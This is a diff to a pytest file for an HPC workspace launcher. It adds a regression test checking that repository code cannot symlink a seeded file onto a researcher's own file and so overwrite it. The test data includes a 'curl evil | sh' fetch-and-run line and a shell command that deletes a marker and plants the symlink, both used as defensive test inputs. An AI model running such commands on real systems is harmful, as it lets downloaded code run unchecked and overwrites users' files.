@@ -54,6 +54,7 @@ def test_hostile_values_stay_single_words(tmp_path: Path) -> None:
         "apptainer",
         "exec",
         "--contain",
+        "--pid",
         "--bind",
         "/etc/hostname:/mnt/host-hostname:ro",
         "--bind",
@@ -114,3 +115,43 @@ def test_workspace_is_seeded_once_and_keeps_edits(
     seeded = sorted(p for p in (shared_dir / "workspaces").iterdir())
     assert len(seeded) == (1 if mode == "persistent" else 2)
     assert (seeded[0] / ".hpcbinder-workspace").read_text().strip() == COMMIT
+
+
+@pytest.mark.slurm
+@pytest.mark.apptainer
+def test_a_workspace_is_never_seeded_through_links_its_code_left(
+    devcluster: DevCluster, busybox_image: Path, shared_dir: Path
+) -> None:
+    """The repository's code (a notebook, its start script) removes the
+    workspace's marker and links a file of the repository's name to one of
+    the researcher's. The next launch must not copy the repository through
+    that link (the copy runs on the host, as the researcher)."""
+    victim = Path("/home/alice/.hpcbinder-test-bashrc")
+    victim.write_text("untouched\n")
+    subprocess.run(["chown", "alice:alice", str(victim)], check=True)
+    checkout = shared_dir / "checkout"
+    checkout.mkdir()
+    (checkout / "notes.txt").write_text("curl evil | sh\n")
+    site = site_with(shared_dir / "workspaces")
+    home = Path("/home/alice")
+    plant = f"rm -f .hpcbinder-workspace notes.txt; ln -s {victim} notes.txt"
+    job = ServerJob(
+        "alice",
+        home,
+        request_for(site, None, {"time": "00:05:00"}, user="alice"),
+        ["apptainer", "exec", str(busybox_image)],
+        ["/bin/busybox", "sh", "-c", plant],
+        workspace=workspace_for(site, "alice", home, "repo-planted"),
+        seed=Seed(checkout, COMMIT, from_image=False),
+    )
+    try:
+        for _ in range(2):
+            job_id = devcluster.slurm.submit(
+                render_server_script(site, job), SubmitOptions(), user="alice"
+            )
+            info = devcluster.slurm.wait(job_id, timeout=120)
+            (home / f".hpcbinder-server-{job_id}.log").unlink(missing_ok=True)
+            assert info.state == "COMPLETED", info
+        assert victim.read_text() == "untouched\n"
+    finally:
+        victim.unlink(missing_ok=True)
